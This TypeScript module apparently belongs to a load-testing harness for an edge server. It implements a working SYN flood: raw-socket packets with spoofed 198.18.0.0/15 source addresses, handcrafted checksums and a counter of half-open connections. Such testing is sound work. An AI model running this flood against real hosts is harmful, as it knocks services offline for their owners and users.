import { readFileSync } from 'node:fs';
import { AF_INET, setOption } from '../../../src/edge/bound-socket.ts';
import { bind, closeSocket, errnoName } from '../../../src/edge/libc.ts';
import { below, type Attack } from './attack.ts';

/**
 * SYNs of connections that nobody goes on with. They seem to come from a network behind an interface that swallows what is sent there
 * (network.ts makes it), so that the kernel waits for the rest of each handshake. Needs root, and that namespace.
 */
export const SWALLOWED_NETWORK = '198.18.0.0/15';

const socket = bind('int socket(int, int, int)');
const sendto = bind('intptr_t sendto(int, void *, size_t, int, void *, uint32_t)');
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const IPPROTO_IP = 0;
const IP_HDRINCL = 3;
const IP_OCTETS = 20;
const TCP_OCTETS = 20;
const SYN = 0x02;
const TCP = 6;

export const halfOpen: Attack = async (target, inPlace) => {
  const fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) throw new Error(`no raw socket: ${errnoName()}`);
  setOption(fd, IPPROTO_IP, IP_HDRINCL, 1);
  const destination = Uint8Array.from(target.host.split('.').map(Number));
  const address = new Uint8Array(16);
  new DataView(address.buffer).setUint16(0, AF_INET, true);
  address.set(destination, 4);
  const packet = new Uint8Array(IP_OCTETS + TCP_OCTETS);
  const view = new DataView(packet.buffer);
  view.setUint8(0, 0x45);
  view.setUint16(2, packet.length);
  view.setUint8(8, 64);
  view.setUint8(9, TCP);
  packet.set(destination, 16);
  view.setUint16(IP_OCTETS + 2, target.port);
  view.setUint8(IP_OCTETS + 12, (TCP_OCTETS / 4) << 4);
  view.setUint8(IP_OCTETS + 13, SYN);
  view.setUint16(IP_OCTETS + 14, 65_535);
  inPlace();
  const started = performance.now();
  let syns = 0;
  for (let now = started; now < started + target.milliseconds; now = performance.now()) {
    if (target.perSecond > 0 && syns > ((now - started) / 1000) * target.perSecond) {
      await new Promise((resolve) => setTimeout(resolve, 1));
      continue;
    }
    packet.set([198, 18 + below(2), below(256), 1 + below(254)], 12);
    view.setUint16(IP_OCTETS, 1024 + below(60_000));
    view.setUint32(IP_OCTETS + 4, below(2 ** 32));
    view.setUint16(IP_OCTETS + 16, 0);
    view.setUint16(IP_OCTETS + 16, checksum(view));
    if (sendto(fd, packet, packet.length, 0, address, address.length) > 0) syns += 1;
  }
  closeSocket(fd);
  return { 'SYNs sent': syns, 'half-open at the end': halfOpenNow() };
};

/** Lines of /proc/net/tcp in the state SYN_RECV (3). */
function halfOpenNow(): number {
  return readFileSync('/proc/net/tcp', 'utf8').match(/^ +[0-9]+: [0-9A-F:]+ [0-9A-F:]+ 03 /gm)?.length ?? 0;
}

/** Of TCP, with its pseudo-header (RFC 9293 §3.1). */
function checksum(view: DataView): number {
  let sum = TCP + TCP_OCTETS;
  for (let at = 12; at < IP_OCTETS + TCP_OCTETS; at += 2) sum += view.getUint16(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}
